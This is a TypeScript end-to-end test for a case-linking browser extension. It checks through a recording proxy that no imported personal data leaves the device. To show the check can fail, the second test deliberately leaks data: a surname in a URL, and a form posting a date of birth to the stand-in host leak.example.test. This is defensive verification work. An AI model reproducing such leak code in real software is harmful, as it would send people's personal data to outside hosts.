/**
 * Nothing leaves the device: a whole session in real Chromium with every request of the browser
 * sent through a recording proxy on loopback (egress-proxy.ts): import both files through the
 * dashboard, link, decide a pair in the review queue, enable a demo case system and open its
 * badged page, open a client's details, verify and export the audit trail. Then no request may
 * have gone anywhere but the demo case systems' own pages (and Chromium's own, exactly listed,
 * background requests), and no request's URL or body may carry a value from the imported files.
 *
 * The second test shows the check can fail: the browser is made to leak on purpose (a surname in
 * a URL, a date of birth in a POST body, a request to another host) and each leak must be found.
 */
import { readFileSync, rmSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ReviewProgress } from '../../engine/api/engine-api';
import { todayIso, writeDemoCsvs } from '../../extension/demo/data';
import { type DemoSites, startDemoSites } from '../../extension/demo/server';
import {
  egressViolations,
  isChromiumNoise,
  type RecordingProxy,
  secretsOf,
  startRecordingProxy,
} from './egress-proxy';
import {
  downloadedText,
  type ExtensionBrowser,
  engineCall,
  extensionOrigin,
  importThroughUi,
  launchBrowser,
  linkThroughUi,
  openDashboard,
  showView,
  tempDir,
} from './harness';

const OPTIONS = { seed: 7, people: 300, treatment: 600, asOf: todayIso() };
const RELEASES_SITE = 'Prison release referrals (demo)';
const dataDir = tempDir('egress-data');
const profile = tempDir('egress-profile');
const files = writeDemoCsvs(dataDir, OPTIONS);
const csvTexts = [readFileSync(files.releases, 'utf8'), readFileSync(files.treatment, 'utf8')];
const secrets = secretsOf(csvTexts);

let sites: DemoSites;
let proxy: RecordingProxy;
let browser: ExtensionBrowser | null = null;
let dashboard: Page;
let demoHosts: string[];

beforeAll(async () => {
  sites = await startDemoSites(OPTIONS);
  demoHosts = [sites.treatmentUrl, sites.releasesUrl].map((u) => new URL(u).host);
  proxy = await startRecordingProxy((host) => demoHosts.includes(host));
  browser = await launchBrowser(profile, undefined, { args: proxy.chromiumArgs });
  dashboard = await openDashboard(browser);
});

afterAll(async () => {
  await browser?.context.close();
  await proxy?.close();
  await sites?.close();
  rmSync(dataDir, { recursive: true, force: true });
  rmSync(profile, { recursive: true, force: true });
});

describe('no egress', () => {
  it('a full session sends nothing anywhere but the case systems\u2019 own pages, and no imported value', async () => {
    expect(secrets.length).toBeGreaterThan(2000);

    // Import and link through the dashboard.
    await importThroughUi(dashboard, files.releases, 'releases');
    await importThroughUi(dashboard, files.treatment, 'treatment');
    await linkThroughUi(dashboard);

    // A review decision, through the review view.
    const before = await engineCall<ReviewProgress>(dashboard, 'reviewProgress');
    expect(before.open).toBeGreaterThan(0);
    await showView(dashboard, 'review');
    await dashboard.locator('#reviewer-name').fill('Egress Test');
    await dashboard.locator('#review-pair').waitFor();
    await dashboard.locator('#review-same').click();
    await expect
      .poll(async () => (await engineCall<ReviewProgress>(dashboard, 'reviewProgress')).decided.same)
      .toBe(before.decided.same + 1);

    // A demo case system enabled, its page badged, a client's details opened.
    await showView(dashboard, 'sites');
    await dashboard.getByRole('button', { name: `Enable ${RELEASES_SITE}` }).click();
    await dashboard.getByRole('button', { name: `Disable ${RELEASES_SITE}` }).waitFor();
    const site = await browser!.context.newPage();
    await site.goto(sites.releasesUrl);
    const badge = site.locator('throughline-badges').getByRole('button').first();
    await badge.waitFor({ timeout: 30_000 });
    await badge.focus();
    await site.keyboard.press('Enter');
    const panel = await browser!.context.newPage();
    await panel.goto(`${extensionOrigin(browser!)}/sidepanel.html`);
    await panel.locator('body[data-shown]').waitFor();

    // The IG page: verify and export the audit trail.
    await showView(dashboard, 'governance');
    await dashboard.getByRole('button', { name: 'Verify the audit trail' }).click();
    await dashboard.locator('#ig-verify-result[data-result="intact"]').waitFor();
    const audit = await downloadedText(dashboard, () =>
      dashboard.getByRole('button', { name: 'Export the audit trail (CSV)' }).click(),
    );
    expect(audit.text.split('\r\n').length).toBeGreaterThan(10);

    const recorded = [...proxy.records];
    const hosts = [...new Set(recorded.map((r) => `${r.method} ${r.host}`))].sort();
    console.log(`egress: ${recorded.length} requests through the proxy: ${hosts.join(', ')}`);
    expect(egressViolations(recorded, { allowedHosts: demoHosts, secrets })).toEqual([]);
    // What went to the case systems was the browser loading their pages: GETs without a body.
    const own = recorded.filter((r) => !isChromiumNoise(r));
    expect(own.length).toBeGreaterThan(0);
    for (const r of own) expect({ method: r.method, body: r.body }).toEqual({ method: 'GET', body: '' });
    // The proxy saw the session: the badged page itself came through it.
    expect(own.some((r) => r.url.startsWith(sites.releasesUrl))).toBe(true);
    await site.close();
    await panel.close();
  });

  it('the check finds a leak: a value in a URL, a value in a body, a request to another host', async () => {
    const from = proxy.records.length;
    const surname = csvTexts[0]!.split(/\r?\n/)[1]!.split(',')[2]!;
    const dob = csvTexts[1]!.split(/\r?\n/)[1]!.split(',')[3]!;
    expect(secrets).toContain(surname);
    expect(secrets).toContain(dob);

    const page = await browser!.context.newPage();
    await page.goto(`${sites.releasesUrl}?q=${encodeURIComponent(surname)}`);
    // A form posted to another host: a body carrying a date of birth, somewhere it must not go.
    await page.evaluate((value) => {
      const form = document.createElement('form');
      form.method = 'POST';
      form.action = 'http://leak.example.test/collect';
      const input = document.createElement('input');
      input.name = 'dob';
      input.value = value;
      form.append(input);
      document.body.append(form);
      form.submit();
    }, dob);
    await page.waitForURL('http://leak.example.test/collect');
    await page.close();

    const planted = proxy.records.slice(from);
    const found = egressViolations(planted, { allowedHosts: demoHosts, secrets }).map((v) => ({
      url: v.request.url,
      reason: v.reason,
    }));
    expect(found).toEqual(
      expect.arrayContaining([
        {
          url: expect.stringContaining(`?q=${encodeURIComponent(surname)}`),
          reason: `carries an imported value ("${surname}")`,
        },
        { url: 'http://leak.example.test/collect', reason: 'a request to leak.example.test:80' },
        { url: 'http://leak.example.test/collect', reason: `carries an imported value ("${dob}")` },
      ]),
    );
  });
});
